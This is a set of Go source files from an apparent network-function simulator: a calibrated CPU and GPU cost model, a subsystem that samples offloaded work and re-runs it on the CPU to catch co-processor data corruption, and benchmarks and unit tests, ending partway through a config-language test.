	// ---- Offloading (paper §3.3) ----

	// OffloadEnqueue: worker-side cost to hand an aggregated task to the
	// device thread (shared ring + doorbell).
	OffloadEnqueue simtime.Cycles
	// OffloadPrePerPacket / OffloadPostPerPacket: datablock pre/postprocessing
	// on the worker (gather input ranges, scatter results).
	OffloadPrePerPacket  simtime.Cycles
	OffloadPostPerPacket simtime.Cycles
	// DeviceTaskFixed + DeviceTaskPerWorker: device-thread CPU cost per task.
	// The per-worker term models the CUDA runtime's internal locking that the
	// paper profiles at 20-30% of the device-thread core (§4.3), which is
	// what bends the GPU-only scalability curve in Fig. 11b.
	DeviceTaskFixed     simtime.Cycles
	DeviceTaskPerWorker simtime.Cycles

	// MaxAggBatches is the offload aggregation limit in batches (paper §3.3:
	// "we set the maximum aggregate size to 32 batches").
	MaxAggBatches int
	// MaxAggDelay bounds how long a pending aggregate may wait before being
	// flushed to the device even if not full.
	MaxAggDelay simtime.Time
	// MaxDeviceBacklog is the admission threshold: a worker stops pulling
	// RX while its socket's device is scheduled busier than this, bounding
	// offload queueing latency (the real system's pinned-buffer limit).
	MaxDeviceBacklog simtime.Time

	// ---- Scaling imperfections ----

	// MemContentionPerWorker inflates per-byte costs by this fraction for
	// each additional active worker on the same socket (shared LLC/membw;
	// the mild per-core droop in Fig. 11a).
	MemContentionPerWorker float64
	// NUMAPenalty multiplies element costs when a worker processes packets
	// of a remote socket's port (§2: remote-socket memory costs 40-50%
	// latency and 20-30% throughput). The default resource mapping keeps
	// everything local, so this only shows up in the ablation bench.
	NUMAPenalty float64

	// ---- Measurement fixtures ----

	// ExternalRTT is the fixed round-trip component outside the framework
	// (generator, cables, switch, NIC MAC/PHY both ways). Calibrated so the
	// minimal L2 forwarding latency matches the paper's 16.1 us (§4.2).
	ExternalRTT simtime.Time

	// ---- Per-element-class costs ----

	// Elements maps element class name to CPU-side cost. Classes not present
	// fall back to DefaultElementCost.
	Elements           map[string]ElementCost
	DefaultElementCost ElementCost

	// Kernels maps offloadable element class name to device kernel cost.
	Kernels map[string]KernelCost

	// Devices maps device kind to its parameters.
	Devices map[DeviceKind]DeviceParams
}

// Default returns the calibrated cost model. The calibration targets are the
// paper's Figures 1, 2, 9-14 and the §4 text; see EXPERIMENTS.md for the
// paper-vs-measured record.
func Default() *CostModel {
	return &CostModel{
		RxBurstFixed:   120,
		RxPerPacket:    60,
		TxBatchFixed:   120,
		TxPerPacket:    50,
		CompletionPoll: 40,
		IdlePoll:       1 * simtime.Microsecond,
		MaxIterTime:    100 * simtime.Microsecond,

		// Batch alloc/free are deliberately heavy: the paper measures that
		// the primary batch-split overhead (25% of the 40% total) is memory
		// management — allocating new batches and releasing the old one.
		BatchAlloc:         2000,
		BatchFree:          400,
		BatchInitPerPacket: 6,
		ElementDispatch:    230,
		GraphTraverse:      30,
		SplitPerPacket:     150,
		MaskPerPacket:      5,
		BranchCheck:        25,

		OffloadEnqueue:       600,
		OffloadPrePerPacket:  150,
		OffloadPostPerPacket: 120,
		DeviceTaskFixed:      20000,
		DeviceTaskPerWorker:  4000,
		MaxAggBatches:        32,
		MaxAggDelay:          600 * simtime.Microsecond,
		MaxDeviceBacklog:     400 * simtime.Microsecond,

		MemContentionPerWorker: 0.012,
		NUMAPenalty:            1.30,

		ExternalRTT: 13 * simtime.Microsecond,

		DefaultElementCost: ElementCost{Fixed: 80},
		Elements: map[string]ElementCost{
			// No-op element used by the composition-overhead experiment
			// (§4.2: ~1 us added by 9 no-op elements, i.e. ~110 ns each,
			// which at 2.6 GHz is ~290 cycles/batch; per-packet share tiny).
			"NoOp": {Fixed: 4},

			"L2Forward":      {Fixed: 120, PerByte: 0.5},
			"CheckIPHeader":  {Fixed: 140, PerByte: 0.25},
			"CheckIP6Header": {Fixed: 140, PerByte: 0.25},
			"DropBroadcasts": {Fixed: 30},
			"DecIPTTL":       {Fixed: 70},
			"DecIP6HLIM":     {Fixed: 70},
			"Classifier":     {Fixed: 90},
			"Queue":          {Fixed: 60},
			"Discard":        {Fixed: 10},
			"EchoBack":       {Fixed: 45, PerByte: 0.4},
			// The synthetic branch element itself must be nearly free so the
			// Figure 1/10 sweeps isolate the split-vs-mask overhead.
			"RandomWeightedBranch": {Fixed: 10},

			// DIR-24-8: at most two dependent memory accesses (paper §4.1).
			"IPLookup": {Fixed: 260},
			// Waldvogel binary search: up to seven accesses (paper §4.1).
			"LookupIP6Route": {Fixed: 650},

			// IPsec CPU path with AES-NI (envelope-context reuse trick,
			// §4.1): calibrated to ~14 Gbps @64 B and ~33 Gbps @1500 B
			// CPU-only on 14 workers (Fig. 12c).
			"IPsecESPencap": {Fixed: 480, PerByte: 0.2},
			"IPsecAES":      {Fixed: 650, PerByte: 4.5},
			"IPsecHMAC":     {Fixed: 280, PerByte: 3.0},

			// IDS: Aho-Corasick + PCRE-style DFA over full payload;
			// calibrated so the GPU speedup lands in the paper's 6-47x band.
			"IDSMatchAC":   {Fixed: 900, PerByte: 45},
			"IDSMatchRE":   {Fixed: 900, PerByte: 70},
			"IDSRuleMatch": {Fixed: 1400, PerByte: 95},

			"IPFilter": {Fixed: 120},
		},

		Kernels: map[string]KernelCost{
			// IPv4 lookup kernel: calibrated so GPU-only trails CPU-only by
			// 0-37% (Fig. 12a).
			"IPLookup": {Launch: 15 * simtime.Microsecond, PerPacket: 40 * simtime.Nanosecond},
			// IPv6 kernel: GPU-only leads CPU-only by 0-75% (Fig. 12b).
			"LookupIP6Route": {Launch: 15 * simtime.Microsecond, PerPacket: 30 * simtime.Nanosecond},
			// IPsec kernels are per-byte dominated (crypto touches every
			// payload byte): a 2048-packet 64 B task takes ~186 us combined,
			// near the paper's profiled ~140 us (100 HMAC + 40 AES, §4.6),
			// and MTU-sized frames become kernel-bound — which is why the
			// paper's GPU loses to AES-NI CPUs at large packets (Fig. 12c).
			"IPsecAES":  {Launch: 7 * simtime.Microsecond, PerPacket: 4 * simtime.Nanosecond, PerByte: 200},
			"IPsecHMAC": {Launch: 8 * simtime.Microsecond, PerPacket: 4 * simtime.Nanosecond, PerByte: 500},
			// IDS kernels: copy-bound at all sizes; kernel itself cheap.
			"IDSMatchAC":   {Launch: 5 * simtime.Microsecond, PerPacket: 8 * simtime.Nanosecond},
			"IDSMatchRE":   {Launch: 5 * simtime.Microsecond, PerPacket: 7 * simtime.Nanosecond},
			"IDSRuleMatch": {Launch: 6 * simtime.Microsecond, PerPacket: 14 * simtime.Nanosecond},
		},

		Devices: map[DeviceKind]DeviceParams{
			DeviceGPU: {CopyBytesPerSec: 2.2e9, KernelScale: 1.0},
			// The Phi-like device: slower kernels, slightly faster copies,
			// heavier launch — a plausibly different accelerator profile for
			// the §7 extension bench.
			DevicePhi: {CopyBytesPerSec: 2.8e9, KernelScale: 2.2, LaunchExtra: 10 * simtime.Microsecond},
		},
	}
}

// ElementCostOf returns the cost entry for an element class, falling back to
// DefaultElementCost.
func (m *CostModel) ElementCostOf(class string) ElementCost {
	if c, ok := m.Elements[class]; ok {
		return c
	}
	return m.DefaultElementCost
}

// KernelCostOf returns the kernel cost for an offloadable element class.
// Unknown classes get a generic mid-range kernel so that experiments with
// custom elements still run.
func (m *CostModel) KernelCostOf(class string) KernelCost {
	if k, ok := m.Kernels[class]; ok {
		return k
	}
	return KernelCost{Launch: 15 * simtime.Microsecond, PerPacket: 40 * simtime.Nanosecond}
}

// DeviceParamsOf returns parameters for a device kind.
func (m *CostModel) DeviceParamsOf(kind DeviceKind) (DeviceParams, error) {
	p, ok := m.Devices[kind]
	if !ok {
		return DeviceParams{}, fmt.Errorf("sysinfo: no device parameters for kind %v", kind)
	}
	return p, nil
}

// Validate checks the model for values that would break the simulation.
func (m *CostModel) Validate() error {
	if m.MaxAggBatches <= 0 {
		return fmt.Errorf("sysinfo: MaxAggBatches must be positive, have %d", m.MaxAggBatches)
	}
	if m.IdlePoll <= 0 {
		return fmt.Errorf("sysinfo: IdlePoll must be positive, have %v", m.IdlePoll)
	}
	// Iterate device kinds in sorted order so the first-reported error is
	// stable across runs (map order would make it flap).
	kinds := make([]int, 0, len(m.Devices))
	for k := range m.Devices {
		kinds = append(kinds, int(k))
	}
	sort.Ints(kinds)
	for _, ki := range kinds {
		k := DeviceKind(ki)
		d := m.Devices[k]
		if d.CopyBytesPerSec <= 0 {
			return fmt.Errorf("sysinfo: device %v has non-positive copy bandwidth", k)
		}
		if d.KernelScale <= 0 {
			return fmt.Errorf("sysinfo: device %v has non-positive kernel scale", k)
		}
	}
	return nil
}
