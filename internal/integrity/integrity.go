// Package integrity is the silent-data-corruption detection and containment
// subsystem: deterministic sentinel re-execution of sampled offloaded
// aggregates, quarantine of mismatched batches, and per-device escalation.
//
// The threat model is a co-processor that completes tasks on time but
// returns wrong bytes (internal/fault's DeviceCorrupt events model it). The
// framework cannot eyeball device results, but it *can* re-run the same
// functional closure on the host — the simulation's device kernels are the
// elements' ProcessOffloaded methods, which are pure over (packet bytes,
// annotations, results) — and compare digests. The sentinel does exactly
// that for a configured fraction of aggregates:
//
//	flush     — the worker draws a per-aggregate coin from a seeded
//	            per-worker stream; sampled aggregates get a byte-level
//	            snapshot (a Shadow) taken before submission;
//	complete  — after the device's Execute ran, the worker re-executes the
//	            offloaded chain on the shadow copy and compares FNV-1a
//	            digests over (mask, result, length, payload, annotations);
//	mismatch  — the aggregate is quarantined: counted in a dedicated drop
//	            class (QuarantinedPackets), never transmitted, and the
//	            device's EWMA corruption score is bumped.
//
// Escalation reuses the machinery the framework already trusts: a score
// crossing DemoteScore ratchets the ALB weight bounds toward the CPU
// (lb.Controller.SetWBounds, the overload governor's bias mechanism); a
// score crossing FailScore fail-stops the device through its fault health
// state, and a recovery probe re-admits it after ProbeAfter.
//
// Everything is deterministic: the sampling stream is seeded from the run
// seed, re-execution happens at task-completion dispatch on the serial
// virtual clock, and a nil Config disarms the whole subsystem with zero
// extra events (the disarm contract — golden digests are byte-identical).
package integrity

import (
	"fmt"

	"nba/internal/batch"
	"nba/internal/packet"
	"nba/internal/rng"
	"nba/internal/simtime"
)

// Config arms the integrity subsystem (core.Config.Integrity). A nil Config
// disarms it entirely.
type Config struct {
	// SampleRate is the fraction of offloaded aggregates the sentinel
	// re-executes on the CPU, in [0, 1]. 0 arms the subsystem without
	// sampling (accounting fields exist but stay zero); 1 checks every
	// aggregate.
	SampleRate float64
	// Alpha is the EWMA smoothing factor of the per-device corruption
	// score: score = Alpha*observation + (1-Alpha)*score, observation 1 on
	// mismatch, 0 on match. Default 0.5.
	Alpha float64
	// DemoteScore is the score at which the device is demoted: the ALB
	// weight bounds are ratcheted toward the CPU by DemoteStep. Default 0.4
	// (first mismatch at the default Alpha).
	DemoteScore float64
	// FailScore is the score at which the device is fail-stopped through
	// its fault health state. Default 0.85 (third consecutive mismatch at
	// the default Alpha). Must be >= DemoteScore.
	FailScore float64
	// DemoteStep is how far each demotion ratchets the ALB weight upper
	// bound down (the overload governor's bias mechanism). Default 0.25.
	DemoteStep float64
	// ProbeAfter is the virtual-time delay after a fail-stop before the
	// recovery probe re-admits the device with a reset score. Default
	// 500µs.
	ProbeAfter simtime.Time
}

// WithDefaults returns a copy with zero fields defaulted.
func (c *Config) WithDefaults() *Config {
	out := *c
	if out.Alpha == 0 {
		out.Alpha = 0.5
	}
	if out.DemoteScore == 0 {
		out.DemoteScore = 0.4
	}
	if out.FailScore == 0 {
		out.FailScore = 0.85
	}
	if out.DemoteStep == 0 {
		out.DemoteStep = 0.25
	}
	if out.ProbeAfter == 0 {
		out.ProbeAfter = 500 * simtime.Microsecond
	}
	return &out
}

// Validate rejects configurations the subsystem cannot honour.
func (c *Config) Validate() error {
	if c.SampleRate < 0 || c.SampleRate > 1 {
		return fmt.Errorf("integrity: sample rate %v outside [0,1]", c.SampleRate)
	}
	if c.Alpha <= 0 || c.Alpha > 1 {
		return fmt.Errorf("integrity: EWMA alpha %v outside (0,1]", c.Alpha)
	}
	if c.DemoteScore <= 0 || c.DemoteScore > 1 {
		return fmt.Errorf("integrity: demote score %v outside (0,1]", c.DemoteScore)
	}
	if c.FailScore < c.DemoteScore || c.FailScore > 1 {
		return fmt.Errorf("integrity: fail score %v outside [demote score %v, 1]", c.FailScore, c.DemoteScore)
	}
	if c.DemoteStep <= 0 || c.DemoteStep > 1 {
		return fmt.Errorf("integrity: demote step %v outside (0,1]", c.DemoteStep)
	}
	if c.ProbeAfter <= 0 {
		return fmt.Errorf("integrity: probe delay %v must be positive", c.ProbeAfter)
	}
	return nil
}

// Shadow is a byte-level snapshot of an aggregate's batches taken before
// submission, re-executed on the CPU at completion time. Shadow packets and
// batches come from the sentinel's private free-lists, not the run's
// accounted mempools: shadows are observer state, invisible to pool-drain
// accounting.
type Shadow struct {
	batches []*batch.Batch
	srcs    []*batch.Batch
}

// Batches returns the shadow copies, parallel to the snapshotted sources.
func (sh *Shadow) Batches() []*batch.Batch { return sh.batches }

// Sentinel is one worker's re-execution sampler. A nil *Sentinel is a valid
// disarmed sentinel: every method is a cheap no-op, mirroring the
// trace.Tracer contract, so worker call sites need no conditionals.
type Sentinel struct {
	cfg *Config
	r   *rng.Rand

	freeB  []*batch.Batch
	freeP  []*packet.Packet
	freeSh []*Shadow

	// Checks / Mismatches count sentinel comparisons and digest
	// disagreements for this worker.
	Checks     uint64
	Mismatches uint64
}

// NewSentinel creates a sentinel drawing its sampling coins from r (a
// seeded per-worker stream, so sampling is part of the run identity).
func NewSentinel(cfg *Config, r *rng.Rand) *Sentinel {
	return &Sentinel{cfg: cfg, r: r}
}

// Sample draws the per-aggregate sampling coin. Safe on a nil sentinel
// (never samples, draws nothing).
//
//nba:hotpath
func (s *Sentinel) Sample() bool {
	if s == nil || s.cfg.SampleRate == 0 {
		return false
	}
	return s.r.Float64() < s.cfg.SampleRate
}

// Snapshot copies the live slots of the aggregate's batches — payload,
// length, annotations, results, mask pattern — into shadow batches. The
// returned Shadow must be handed back via Verify or Release.
func (s *Sentinel) Snapshot(batches []*batch.Batch) *Shadow {
	sh := s.getShadow()
	for _, src := range batches {
		cp := s.getBatch()
		for i := 0; i < src.Count(); i++ {
			p := s.getPacket()
			orig := src.Packet(i)
			if orig != nil {
				p.CopyFrom(orig.Data())
				p.Anno = orig.Anno
			}
			cp.Add(p)
			cp.SetResult(i, src.Result(i))
			if src.IsMasked(i) {
				cp.Mask(i)
			}
		}
		sh.batches = append(sh.batches, cp)
		sh.srcs = append(sh.srcs, src)
	}
	return sh
}

// Verify re-executes the offloaded chain on the shadow via rerun (the
// caller runs its ProcessOffloaded chain over each shadow batch) and
// compares digests against the device's results. The shadow is released
// either way. Returns true when the digests agree.
func (s *Sentinel) Verify(sh *Shadow, rerun func(*batch.Batch)) bool {
	s.Checks++ //nbalint:allow sharedstate stats counter; read happens-after the event loop drains
	for _, b := range sh.batches {
		rerun(b)
	}
	match := true
	for i, b := range sh.batches {
		if digestBatch(sh.srcs[i]) != digestBatch(b) {
			match = false
			break
		}
	}
	s.Release(sh)
	if !match {
		s.Mismatches++ //nbalint:allow sharedstate stats counter; read happens-after the event loop drains
	}
	return match
}

// Release returns a shadow's packets and batches to the free-lists without
// verifying (used when the task never executed on the device: CPU fallback,
// admission refusal, device failure).
func (s *Sentinel) Release(sh *Shadow) {
	if s == nil || sh == nil {
		return
	}
	for _, b := range sh.batches {
		for i := 0; i < b.Count(); i++ {
			p := b.Packet(i)
			p.Reset()
			s.freeP = append(s.freeP, p)
		}
		b.Reset()
		s.freeB = append(s.freeB, b)
	}
	sh.batches = sh.batches[:0]
	sh.srcs = sh.srcs[:0]
	s.freeSh = append(s.freeSh, sh)
}

func (s *Sentinel) getShadow() *Shadow {
	if n := len(s.freeSh); n > 0 {
		sh := s.freeSh[n-1]
		s.freeSh = s.freeSh[:n-1]
		return sh
	}
	return &Shadow{}
}

func (s *Sentinel) getBatch() *batch.Batch {
	if n := len(s.freeB); n > 0 {
		b := s.freeB[n-1]
		s.freeB = s.freeB[:n-1]
		return b
	}
	return &batch.Batch{}
}

func (s *Sentinel) getPacket() *packet.Packet {
	if n := len(s.freeP); n > 0 {
		p := s.freeP[n-1]
		s.freeP = s.freeP[:n-1]
		return p
	}
	return &packet.Packet{}
}

// digestBatch folds one batch's observable processing state — per-slot mask
// bit, result, frame length, payload bytes and annotations — into an FNV-1a
// digest. Two batches that digest equal produced indistinguishable results.
//
//nba:hotpath
func digestBatch(b *batch.Batch) uint64 {
	const (
		offset64 = 0xcbf29ce484222325
		prime64  = 0x100000001b3
	)
	h := uint64(offset64)
	for i := 0; i < b.Count(); i++ {
		if b.IsMasked(i) {
			h ^= 0xa5
			h *= prime64
			continue
		}
		h = fnvWord(h, uint64(int64(b.Result(i))))
		p := b.Packet(i)
		h = fnvWord(h, uint64(p.Length()))
		for _, by := range p.Data() {
			h ^= uint64(by)
			h *= prime64
		}
		for _, a := range p.Anno {
			h = fnvWord(h, a)
		}
	}
	return h
}

// fnvWord folds one 64-bit word into an FNV-1a digest, little-endian.
//
//nba:hotpath
func fnvWord(h, v uint64) uint64 {
	const prime64 = 0x100000001b3
	for i := 0; i < 8; i++ {
		h ^= v & 0xff
		h *= prime64
		v >>= 8
	}
	return h
}

// Action is what the tracker asks the system to do after an observation.
type Action uint8

const (
	// ActionNone requires no escalation.
	ActionNone Action = iota
	// ActionDemote ratchets the device's ALB weight bounds toward the CPU.
	ActionDemote
	// ActionFailStop fail-stops the device through its fault health state
	// and schedules a recovery probe.
	ActionFailStop
)

// Tracker keeps the per-device EWMA corruption scores and decides
// escalation. One tracker serves the whole run (device indices are global).
type Tracker struct {
	cfg     *Config
	scores  []float64
	consec  []int
	demoted []bool
	failed  []bool
}

// NewTracker creates a tracker for ndev devices.
func NewTracker(cfg *Config, ndev int) *Tracker {
	return &Tracker{
		cfg:     cfg,
		scores:  make([]float64, ndev),
		consec:  make([]int, ndev),
		demoted: make([]bool, ndev),
		failed:  make([]bool, ndev),
	}
}

// Observe folds one sentinel check result into dev's score and returns the
// escalation the system must apply. Observations against a fail-stopped
// device (completions already in flight when it was stopped) are ignored.
func (t *Tracker) Observe(dev int, mismatch bool) Action {
	if t.failed[dev] {
		return ActionNone
	}
	x := 0.0
	if mismatch {
		x = 1.0
		t.consec[dev]++
	} else {
		t.consec[dev] = 0
	}
	t.scores[dev] = t.cfg.Alpha*x + (1-t.cfg.Alpha)*t.scores[dev]
	switch {
	case t.scores[dev] >= t.cfg.FailScore:
		t.failed[dev] = true
		return ActionFailStop
	case t.scores[dev] >= t.cfg.DemoteScore && !t.demoted[dev]:
		t.demoted[dev] = true
		return ActionDemote
	}
	return ActionNone
}

// Score returns dev's current EWMA corruption score.
func (t *Tracker) Score(dev int) float64 { return t.scores[dev] }

// Consecutive returns dev's current run of consecutive mismatches.
func (t *Tracker) Consecutive(dev int) int { return t.consec[dev] }

// FailStopped reports whether dev is currently fail-stopped by the tracker.
func (t *Tracker) FailStopped(dev int) bool { return t.failed[dev] }

// Readmit clears dev's state after a recovery probe: the device starts over
// with a clean score and its weight bounds restored by the caller.
func (t *Tracker) Readmit(dev int) {
	t.scores[dev] = 0
	t.consec[dev] = 0
	t.demoted[dev] = false
	t.failed[dev] = false
}
