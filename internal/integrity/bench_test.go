package integrity

import (
	"testing"

	"nba/internal/batch"
	"nba/internal/rng"
)

// BenchmarkSentinelCompare measures the sentinel compare path — snapshot,
// shadow re-execution, digest comparison, release — at steady state. The
// free-lists make it allocation-free after the first iteration, which
// ReportAllocs pins in review.
func BenchmarkSentinelCompare(b *testing.B) {
	s := NewSentinel((&Config{SampleRate: 1}).WithDefaults(), rng.New(3))
	src := fill(32)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		sh := s.Snapshot([]*batch.Batch{src})
		s.Verify(sh, deviceExec)
	}
}

// TestCompareSteadyStateAllocFree gates the benchmark's claim: once the
// free-lists are warm, a full snapshot/verify/release cycle allocates
// nothing.
func TestCompareSteadyStateAllocFree(t *testing.T) {
	s := NewSentinel((&Config{SampleRate: 1}).WithDefaults(), rng.New(3))
	src := fill(32)
	s.Release(s.Snapshot([]*batch.Batch{src})) // warm the free-lists
	allocs := testing.AllocsPerRun(100, func() {
		sh := s.Snapshot([]*batch.Batch{src})
		s.Verify(sh, deviceExec)
	})
	if allocs != 0 {
		t.Fatalf("steady-state compare path allocates %v objects per run, want 0", allocs)
	}
}

// TestDisarmedSampleAllocFree is the disarm gate: with sampling disabled
// (rate 0) and on a nil sentinel, the per-aggregate hot-path coin must not
// allocate at all.
func TestDisarmedSampleAllocFree(t *testing.T) {
	disarmed := NewSentinel((&Config{SampleRate: 0}).WithDefaults(), rng.New(3))
	var nilS *Sentinel
	if allocs := testing.AllocsPerRun(1000, func() {
		if disarmed.Sample() {
			t.Error("rate-0 sentinel sampled")
		}
	}); allocs != 0 {
		t.Fatalf("disarmed Sample allocates %v objects per run, want 0", allocs)
	}
	if allocs := testing.AllocsPerRun(1000, func() {
		if nilS.Sample() {
			t.Error("nil sentinel sampled")
		}
	}); allocs != 0 {
		t.Fatalf("nil Sample allocates %v objects per run, want 0", allocs)
	}
}
