package integrity

import (
	"strings"
	"testing"

	"nba/internal/batch"
	"nba/internal/packet"
	"nba/internal/rng"
	"nba/internal/simtime"
)

// packetAlloc backs fill's batches so tests control packet identity.
var packetAlloc [64]packet.Packet

func TestConfigWithDefaults(t *testing.T) {
	c := (&Config{SampleRate: 0.25}).WithDefaults()
	if c.Alpha != 0.5 || c.DemoteScore != 0.4 || c.FailScore != 0.85 ||
		c.DemoteStep != 0.25 || c.ProbeAfter != 500*simtime.Microsecond {
		t.Fatalf("unexpected defaults: %+v", c)
	}
	if c.SampleRate != 0.25 {
		t.Fatalf("defaults clobbered the sample rate: %v", c.SampleRate)
	}
	if err := c.Validate(); err != nil {
		t.Fatalf("defaulted config invalid: %v", err)
	}
}

func TestConfigValidate(t *testing.T) {
	base := func() *Config { return (&Config{SampleRate: 0.5}).WithDefaults() }
	cases := []struct {
		name string
		mut  func(*Config)
		err  string // substring, "" for valid
	}{
		{"defaults valid", func(c *Config) {}, ""},
		{"rate zero is armed-without-sampling", func(c *Config) { c.SampleRate = 0 }, ""},
		{"rate one", func(c *Config) { c.SampleRate = 1 }, ""},
		{"rate negative", func(c *Config) { c.SampleRate = -0.1 }, "sample rate"},
		{"rate above one", func(c *Config) { c.SampleRate = 1.5 }, "sample rate"},
		{"alpha above one", func(c *Config) { c.Alpha = 1.5 }, "alpha"},
		{"demote above one", func(c *Config) { c.DemoteScore = 1.5 }, "demote score"},
		{"fail below demote", func(c *Config) { c.FailScore = 0.2 }, "fail score"},
		{"step above one", func(c *Config) { c.DemoteStep = 2 }, "demote step"},
		{"probe negative", func(c *Config) { c.ProbeAfter = -1 }, "probe delay"},
	}
	for _, tc := range cases {
		c := base()
		tc.mut(c)
		err := c.Validate()
		if tc.err == "" {
			if err != nil {
				t.Errorf("%s: unexpected error %v", tc.name, err)
			}
		} else if err == nil || !strings.Contains(err.Error(), tc.err) {
			t.Errorf("%s: error %v, want substring %q", tc.name, err, tc.err)
		}
	}
}

func TestSampleDeterministicAndNilSafe(t *testing.T) {
	cfg := (&Config{SampleRate: 0.3}).WithDefaults()
	a := NewSentinel(cfg, rng.New(7))
	b := NewSentinel(cfg, rng.New(7))
	for i := 0; i < 1000; i++ {
		if a.Sample() != b.Sample() {
			t.Fatalf("same seed diverged at coin %d", i)
		}
	}

	always := NewSentinel((&Config{SampleRate: 1}).WithDefaults(), rng.New(1))
	never := NewSentinel((&Config{SampleRate: 0}).WithDefaults(), rng.New(1))
	var nilS *Sentinel
	for i := 0; i < 100; i++ {
		if !always.Sample() {
			t.Fatal("rate-1 sentinel declined a sample")
		}
		if never.Sample() {
			t.Fatal("rate-0 sentinel sampled")
		}
		if nilS.Sample() {
			t.Fatal("nil sentinel sampled")
		}
	}
	nilS.Release(nil) // must not panic
}

// fill builds a batch of n live packets with distinct payloads plus one
// masked slot, mimicking a post-classification aggregate.
func fill(n int) *batch.Batch {
	b := &batch.Batch{}
	for i := 0; i < n; i++ {
		p := &packetAlloc[i]
		p.Reset()
		p.CopyFrom([]byte{byte(i), 0x10, byte(i * 3), 0xff})
		p.Anno[0] = uint64(i)
		b.Add(p)
		b.SetResult(i, i%3)
	}
	b.Add(&packetAlloc[n])
	b.Mask(n)
	return b
}

// deviceExec is the stand-in offloaded kernel: a pure function over slot
// state, the shape ProcessOffloaded has.
func deviceExec(b *batch.Batch) {
	for i := 0; i < b.Count(); i++ {
		if b.IsMasked(i) {
			continue
		}
		p := b.Packet(i)
		p.Data()[0] ^= 0x42
		b.SetResult(i, int(p.Data()[1])+p.Length())
	}
}

func TestSnapshotVerifyMatchAndMismatch(t *testing.T) {
	s := NewSentinel((&Config{SampleRate: 1}).WithDefaults(), rng.New(3))

	// Honest device: snapshot before execution, execute the source, rerun
	// the same kernel on the shadow — digests must agree.
	src := fill(4)
	sh := s.Snapshot([]*batch.Batch{src})
	deviceExec(src)
	if !s.Verify(sh, deviceExec) {
		t.Fatal("honest execution flagged as mismatch")
	}
	if s.Checks != 1 || s.Mismatches != 0 {
		t.Fatalf("counters after match: checks %d, mismatches %d", s.Checks, s.Mismatches)
	}

	// Corrupting device: same flow, but a payload byte is flipped after
	// execution (what fault.DeviceCorrupt does) — must mismatch.
	src = fill(4)
	sh = s.Snapshot([]*batch.Batch{src})
	deviceExec(src)
	src.Packet(2).Data()[3] ^= 0x01
	if s.Verify(sh, deviceExec) {
		t.Fatal("corrupted payload not detected")
	}
	if s.Checks != 2 || s.Mismatches != 1 {
		t.Fatalf("counters after mismatch: checks %d, mismatches %d", s.Checks, s.Mismatches)
	}

	// A wrong result word (device lied about the verdict, bytes intact)
	// must also mismatch.
	src = fill(4)
	sh = s.Snapshot([]*batch.Batch{src})
	deviceExec(src)
	src.SetResult(1, src.Result(1)+1)
	if s.Verify(sh, deviceExec) {
		t.Fatal("corrupted result word not detected")
	}
}

func TestReleaseRecycles(t *testing.T) {
	s := NewSentinel((&Config{SampleRate: 1}).WithDefaults(), rng.New(3))
	src := fill(4)
	sh := s.Snapshot([]*batch.Batch{src})
	firstShadow := sh
	firstBatch := sh.Batches()[0]
	s.Release(sh)
	if len(sh.Batches()) != 0 {
		t.Fatal("release left batches attached to the shadow")
	}
	sh2 := s.Snapshot([]*batch.Batch{src})
	if sh2 != firstShadow || sh2.Batches()[0] != firstBatch {
		t.Fatal("free-lists not recycled: snapshot allocated fresh objects")
	}
	s.Release(sh2)
}

func TestDigestSensitivity(t *testing.T) {
	base := func() *batch.Batch { return fill(4) }
	h0 := digestBatch(base())
	if digestBatch(base()) != h0 {
		t.Fatal("digest not deterministic over identical batches")
	}
	mutations := []struct {
		name string
		mut  func(*batch.Batch)
	}{
		{"payload byte", func(b *batch.Batch) { b.Packet(0).Data()[2] ^= 1 }},
		{"result word", func(b *batch.Batch) { b.SetResult(0, 99) }},
		{"annotation", func(b *batch.Batch) { b.Packet(1).Anno[0]++ }},
		{"length", func(b *batch.Batch) { b.Packet(3).SetLength(3) }},
		{"mask", func(b *batch.Batch) { b.Mask(2) }},
	}
	for _, m := range mutations {
		b := base()
		m.mut(b)
		if digestBatch(b) == h0 {
			t.Errorf("digest blind to %s mutation", m.name)
		}
	}
}

func TestTrackerEscalationLadder(t *testing.T) {
	cfg := (&Config{SampleRate: 1}).WithDefaults() // alpha .5, demote .4, fail .85
	tr := NewTracker(cfg, 2)

	// First mismatch: score 0.5 crosses DemoteScore once.
	if got := tr.Observe(0, true); got != ActionDemote {
		t.Fatalf("first mismatch: action %v, want demote", got)
	}
	// Second: score 0.75 — demoted already, below fail.
	if got := tr.Observe(0, true); got != ActionNone {
		t.Fatalf("second mismatch: action %v, want none", got)
	}
	// Third consecutive: score 0.875 crosses FailScore.
	if got := tr.Observe(0, true); got != ActionFailStop {
		t.Fatalf("third mismatch: action %v, want fail-stop", got)
	}
	if !tr.FailStopped(0) || tr.Consecutive(0) != 3 {
		t.Fatalf("post-fail state: failed %v, consec %d", tr.FailStopped(0), tr.Consecutive(0))
	}
	// In-flight completions against a fail-stopped device are ignored.
	if got := tr.Observe(0, true); got != ActionNone {
		t.Fatalf("observation on failed device: action %v, want none", got)
	}

	// The other device is independent and decays on matches.
	tr.Observe(1, true)
	score := tr.Score(1)
	tr.Observe(1, false)
	if tr.Score(1) >= score || tr.Consecutive(1) != 0 {
		t.Fatalf("match did not decay device 1: score %v -> %v, consec %d",
			score, tr.Score(1), tr.Consecutive(1))
	}

	// Readmission starts the device over.
	tr.Readmit(0)
	if tr.FailStopped(0) || tr.Score(0) != 0 || tr.Consecutive(0) != 0 {
		t.Fatal("readmit did not reset device 0")
	}
	if got := tr.Observe(0, true); got != ActionDemote {
		t.Fatalf("post-readmit mismatch: action %v, want demote (ladder restarts)", got)
	}
}
