package conflang

import (
	"strings"
	"testing"
)

func TestPrintRoundTrip(t *testing.T) {
	srcs := []string{
		`FromInput() -> CheckIPHeader() -> ToOutput();`,
		`
			a :: NoOp("x", "y\n\"z\\");
			b :: RandomWeightedBranch("0.3");
			FromInput() -> a -> b;
			b[0] -> ToOutput();
			b[1] -> Discard();
		`,
		`
			elementclass P { input -> NoOp() -> output; }
			FromInput() -> P() -> ToOutput();
		`,
	}
	for _, src := range srcs {
		cfg1, err := Parse(src)
		if err != nil {
			t.Fatalf("Parse: %v\n%s", err, src)
		}
		printed := cfg1.Print()
		cfg2, err := Parse(printed)
		if err != nil {
			t.Fatalf("re-Parse failed: %v\nprinted:\n%s", err, printed)
		}
		if len(cfg2.Decls) != len(cfg1.Decls) {
			t.Fatalf("decl count changed: %d -> %d\n%s", len(cfg1.Decls), len(cfg2.Decls), printed)
		}
		if len(cfg2.Edges) != len(cfg1.Edges) {
